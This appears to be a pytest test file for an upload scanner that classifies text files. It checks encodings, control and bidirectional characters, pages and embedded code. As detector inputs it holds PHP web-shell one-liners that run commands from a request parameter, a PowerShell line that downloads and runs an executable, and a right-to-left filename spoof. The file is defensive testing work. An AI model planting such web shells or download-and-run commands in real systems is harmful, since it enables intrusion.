"""Text in every encoding that people write, and what only looks like it."""

import random

import pytest

from consumer.inspection.readers.seen import Work
from consumer.inspection.readers.text import decode, read
from consumer.model import Reason
from tests.inspection.files import program
from tests.inspection.judging import reason, seen

GREEK = "Αγαπητοί κύριοι, σας στέλνω τα έγγραφα για την αίτηση.\r\n"
RUSSIAN = "Добрый день! Посылаю документы по заявлению.\r\n"
JAPANESE = "お世話になっております。申請書類をお送りいたします。\r\n"
CHINESE = "您好，附件是我的申请材料。请查收。\r\n"
KOREAN = "안녕하세요. 신청 서류를 보내 드립니다.\r\n"
HEBREW = "שלום רב, מצורפים המסמכים.\r\n"
THAI = "เรียน เจ้าหน้าที่ ขอส่งเอกสารประกอบคำขอ\r\n"


@pytest.mark.parametrize("times", [1, 3, 40])
@pytest.mark.parametrize(
    ("words", "encoding"),
    [
        (GREEK, "iso8859-7"),
        (GREEK, "cp1253"),
        (RUSSIAN, "cp1251"),
        (RUSSIAN, "cp866"),
        (RUSSIAN, "koi8-r"),
        (HEBREW, "cp1255"),
        (THAI, "tis-620"),
        (JAPANESE, "shift-jis"),
        (JAPANESE, "euc-jp"),
        (JAPANESE, "iso2022-jp"),
        (CHINESE, "gb18030"),
        (CHINESE, "big5hkscs"),
        (KOREAN, "euc-kr"),
        (KOREAN, "johab"),
        (KOREAN, "iso2022-kr"),
        *((words, encoding) for words in (GREEK, RUSSIAN, JAPANESE, CHINESE, KOREAN, HEBREW, THAI)
          for encoding in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be")),
    ],
)  # fmt: skip
def test_text_is_text_in_any_encoding(words: str, encoding: str, times: int) -> None:
    assert reason((words * times).encode(encoding, "ignore"), "a.txt") is None


def test_text_in_utf16_without_its_mark_may_have_lines_of_one_character_and_no_ascii() -> None:
    assert reason(("＝" * 40 + "\r\n今回の目次\r\n" + "━" * 40).encode("utf-16-le"), "a.txt") is None
    assert reason("拝啓、時下ますますご清栄のこととお慶び申し上げます。".encode("utf-16-le"), "a.txt") is None


def test_the_order_of_bytes_is_the_one_in_which_the_words_are_read() -> None:
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        assert decode("Plain notes, written by an old tool".encode(encoding)) == "Plain notes, written by an old tool"
        assert decode(RUSSIAN.encode(encoding)) == RUSSIAN


@pytest.mark.parametrize(
    "data",
    [
        b"_\x08N_\x08A_\x08M_\x08E\n     ls - l\x08li\x08is\x08st\x08t the files of a folder\n" * 9,
        b"8=FIX.4.2\x019=65\x0135=A\x0149=SERVER\x0156=CLIENT\x01" * 9,
        b"one record\x1eanother record\x1e" * 9,
        b"\x1b[31mred\x1b[0m and \x07 a bell\n",
    ],
    ids=["a manual page", "a protocol's log", "records", "a terminal's colours"],
)
def test_controls_that_texts_have_leave_them_texts_and_are_told(data: bytes) -> None:
    found = seen(data)
    assert (found.detected_type, found.flags) == ("text/plain", ["control_characters"])
    assert found.has(Reason.CONTROL_CHARACTERS)


@pytest.mark.parametrize(
    "data",
    [
        b"\x01\x02\x03\x04\x05\x06 binary \x0e\x0f\x10\x11\x12" * 20,
        b"caf\xe9 \x01\x02\x03\x04" * 20,
        b"text\x00with\x01binary\x02in\x03it" * 9,
        b"hsqs" + bytes(96),
        ("Dear Sir or Madam,\nplease find my claim below.\n" * 9).encode("cp500"),
        b"NAME\0\0\0\0CITY\0\0\0\0" * 20,
        random.Random(1).randbytes(300),
        bytes(random.Random(2).choices(range(1, 256), k=3_000)),
    ],
)
def test_binary_data_is_no_text(data: bytes) -> None:
    assert reason(data, "a.txt") is Reason.CONTENT_NOT_ALLOWED


@pytest.mark.parametrize(
    ("text", "flags"),
    [
        ("plain\tand\nsimple\x0c\x1a", []),
        ("an escape \x1b]0;title\x07", ["control_characters"]),
        ("a control \x9b31m of the second set", ["control_characters"]),
        ("deleted \x7f", ["control_characters"]),
        ("invoice \u202etxt.exe", ["bidirectional_characters"]),
        ("isolated \u2067x\u2069", ["bidirectional_characters"]),
        ("שלום \u200f! ", []),
        ("x" * 300_000 + "\x1b[2J", ["control_characters"]),
        ("é" * 300_000 + "\u202e", ["bidirectional_characters"]),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_characters_that_nobody_sees_are_told(text: str, flags: list[str], encoding: str) -> None:
    found = seen(text.encode(encoding))
    assert (found.detected_type, found.flags) == ("text/plain", flags)
    assert found.has(Reason.CONTROL_CHARACTERS) == ("control_characters" in flags)


def test_letters_of_an_old_code_page_are_no_controls() -> None:
    assert seen("Größe, Maß und Übermaß".encode("cp850")).flags == []
    assert seen("Größe \x1b[2J".encode("cp850")).flags == ["control_characters"]


def test_reading_is_paid_for_and_needs_little_memory() -> None:
    work = Work()
    assert read("\U0001f600".encode() * 500_000, work) is not None
    assert Work().left - work.left >= 2_000_000


def test_what_is_left_of_a_last_character_leaves_a_text_a_text() -> None:
    """A cut upload, and a line's end that a program for single bytes added."""
    for encoding in ("utf-16", "utf-16-be", "utf-16-le"):
        data = ("\ufeff" * (encoding != "utf-16") + "Dear all \U0001f600").encode(encoding)
        assert [reason(data[: len(data) - cut], "a.txt") for cut in range(5)] == [None] * 5
        assert reason(data + b"\n", "a.txt") is None
    assert reason("\ufeffDear all".encode("utf-32-be")[:-3], "a.txt") is None
    assert reason("Dear \U0001f600".encode("utf-8-sig")[:-1], "a.txt") is None
    assert reason("Grüße".encode("utf-8-sig") + "\nGrüße".encode("cp1252"), "a.txt") is None


def test_a_text_may_be_padded_to_the_size_of_a_block() -> None:
    line = b"2024-05-12 10:00:00 GET / 200\r\n"
    found = seen(line.ljust(64 * 1024, b"\0"))
    assert (found.detected_type, found.findings) == ("text/plain", [])
    assert reason((line + program()).ljust(64 * 1024, b"\0"), "a.log") is not None
    assert reason(line.ljust(64 * 1024 - 1, b"\0") + b"a", "a.log") is not None
    assert reason(b"hsqs".ljust(512, b"\0"), "a.log") is not None


@pytest.mark.parametrize("begins", ["GIF89a", "%PDF-1.4", "RIFF", "#!AMR\n", "ID3", "BM"])
def test_a_note_in_a_code_page_may_begin_with_the_letters_of_a_signature(begins: str) -> None:
    text = f"{begins} ist größer, als wir dachten. Viele Grüße, Jörg\n"
    assert reason(text.encode("cp1252"), "a.txt") is None


PROGRAMS = {
    "python": 'import os\nfrom sys import argv\n\n\ndef main(name):\n    """What it does,\n    in many words."""\n'
    "    for one in os.listdir(name):\n        print(one)\n    return 0\n\n\nif __name__ == '__main__':\n"
    "    main(argv[1])\n",
    "javascript": "(function () {\n  /* a remark of\n     many words */\n  const url = 'https://a.example';\n"
    "  fetch(url).then((answer) => {\n    document.title = answer;\n  });\n})();\n",
    "minified javascript": "!" + "function(a){for(var b=0;b<a.length;b++){c(a[b]);}}" * 9,
    "perl": "use strict;\nuse warnings;\n\nmy $name = shift;\nforeach my $file (glob($name)) {\n    print $file;\n}\n",
    "shell": 'for i in *.txt\ndo\n  if [ -f "$i" ]; then\n    rm -f "$i"\n  fi\ndone\n',
    "batch": "set name=%1\r\nif exist %name% del /q %name%\r\ncalc.exe\r\ngoto end\r\n:end\r\n",
    "powershell": "iwr http://a.example/x -outfile a.exe; ./a.exe\n",
    "vbscript": 'CreateObject("WScript.Shell").Run "calc"\n',
    "ruby": "require 'json'\n\nclass Reader\n  def read(name)\n    JSON.parse(name)\n  end\nend\n",
    "registry": "REGEDIT4\n\n[HKEY_CURRENT_USER\\Software]\n",
    "shortcut": "[InternetShortcut]\nURL=file://a.example/x.exe\n",
    "asp": '<%@ language="vbscript" %>',
    "component": '<?xml version="1.0"?>\n<scriptlet><registration/></scriptlet>',
}


@pytest.mark.parametrize("name", PROGRAMS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
def test_a_program_is_a_text_like_any_other_under_a_texts_name(name: str, encoding: str) -> None:
    assert reason(PROGRAMS[name].encode(encoding), "a.txt") is None


@pytest.mark.parametrize("name", sorted(PROGRAMS.keys() - {"vbscript", "powershell", "component"}))
def test_a_text_that_looks_like_a_program_is_told(name: str) -> None:
    assert seen(PROGRAMS[name].encode()).has(Reason.LOOKS_LIKE_CODE)


@pytest.mark.parametrize(
    "code",
    [
        "<?=`$_GET[0]`?>",
        "<?php system($_GET[0]);",
        "<?PhP\tsystem ('id') ?>",
        "<?php /* a remark */ // another\n # third\n eval($x);",
        "<?php\nnamespace App;\nclass A {}",
        "<?php declare(strict_types=1);",
        "<?php if ($a): echo 1; endif ?>",
        "<?php ;; {phpinfo();}",
        "<?php 1; passthru('id');",
        "<?php (string)system('id');",
        "<?php use A\\B; A::c();",
        "<?php <<<X\nX;",
        "<?php function a() {} a();",
    ],
)
def test_code_of_php_is_a_script_wherever_it_stands_in_a_text(code: str) -> None:
    assert reason(code.encode(), "a.txt") is Reason.SCRIPT
    assert reason(f"Dear Sir,\nplease look at this:\n{code}\n".encode(), "a.txt") is Reason.SCRIPT


@pytest.mark.parametrize(
    "code",
    [
        '<?=f(\']\', "it\\"s)", `)`) /* ) */ // )\n . $_GET[0]?>',
        "<?=$a;if($a){?>x<?=$_GET[0];}?>",
        '<?="{$a["]"]}".system($_GET[0])?>',
        "<?=$a.<<<X\n)\nX\n.system($_GET[0])?>",
        "<?=$_GET[0];__halt_compiler();)?>",
        "<?=#[A]\nfn()=>1;?>",
        "<?=$a # )?>",
        "<?=$a" + "[0]" * 40 + ".')'?>",
    ],
)
def test_an_expression_of_php_is_code_whatever_stands_in_its_strings_and_remarks(code: str) -> None:
    assert reason(code.encode(), "a.txt") is Reason.SCRIPT


def test_bytes_that_are_written_in_letters_hold_tags_by_chance() -> None:
    """As a PDF holds a picture in ASCII85, and an old mail in uuencode."""
    taken = 0
    for seed in range(200):
        letters = random.Random(seed).choices(range(33, 118), k=3_000)
        lines = b"\n".join(bytes(letters[at : at + 75]) for at in range(0, len(letters), 75))
        taken += reason(b"<?=$a" + lines + b"?>", "a.txt") is not None
    assert taken < 8


@pytest.mark.parametrize(
    "words",
    [
        "Every file begins with <?php and ends without a closing tag.",
        "use `<?php` at the start, never <?= in a template",
        "<?php",
        "<?php ?>",
        "The <?php tag (see below) opens code.",
        "a <?xml version='1.0'?> b <? c",
    ],
)
def test_words_about_php_are_words(words: str) -> None:
    assert reason(words.encode(), "a.txt") is None


@pytest.mark.parametrize(
    "page",
    [
        "<html><body>Hi</body></html>",
        "\ufeff<!DOCTYPE html><p>x",
        "<p>hello</p><script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<table><tr><td onmouseover="x()">y</table>',
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_text_that_begins_as_a_page_is_one(page: str, encoding: str) -> None:
    assert reason(page.encode(encoding), "a.txt") is Reason.CONTENT_NOT_ALLOWED


@pytest.mark.parametrize(
    "text",
    [
        "look at <script>alert(1)</script>, which is no page here",
        "GIF89a is the header of the newer GIF files.",
        "BM is a village, PK another one, and MZ a third",
        "ID3\x20tags, {\\x and Rar! are words",
        '<?xml version="1.0"?>\n<order online="true"/>\n',
        '<order><status online="yes"/></order>',
        "[InternetShortcut]\nURL=https://a.example/\n",
        "class Anna Berg\nclass Ben Cohen\n",
    ],
)
def test_no_other_words_make_anything_else_of_a_text(text: str) -> None:
    assert reason(text.encode(), "a.txt") is None


LETTER = (
    "Dear Sir or Madam,\nplease look at the code below, it does not work.\nI have tried it twice, with no success:\n\n"
)


@pytest.mark.parametrize(
    "text",
    [
        *(LETTER + PROGRAMS[name] for name in ("python", "perl", "shell", "batch", "ruby")),
        "import duties\nclass of goods: (a)\nfrom Hamburg to Rotterdam\nreturn of goods by sea\nfor Mr Li\n",
        "name = value\nother = 12\npath = C:\\data\n" * 20,
        '{"scripts": {"build": "require(\'x\')"},\n "list": [1, 2, 3],\n "more": {"a": "b"}}\n',
        "# Heading\n\n* one (1)\n* two (2)\n\n[link](https://a.example)\n",
        "our $c;  &lt;br /&gt;\nit was here that day;&lt;br /&gt;\nand nobody saw it.&lt;br /&gt;\n" * 3,
        "2026-01-01 12:00:00,123 INFO [main] started (pid=1)\n" * 30,
        "<p><strong>Lorem ipsum</strong> dolor sit amet</p>\n",
        "-----BEGIN CERTIFICATE-----\nTVqQAAMAAAAEAAAA//8AALgAAAA\n-----END CERTIFICATE-----\n",
        "* Dear Sir,\n* Order 12 (paid);\n* Order 13 (open);\n",
    ],
)
def test_what_people_write_about_programs_and_lists_is_text(text: str) -> None:
    assert reason(text.encode(), "a.txt") is None
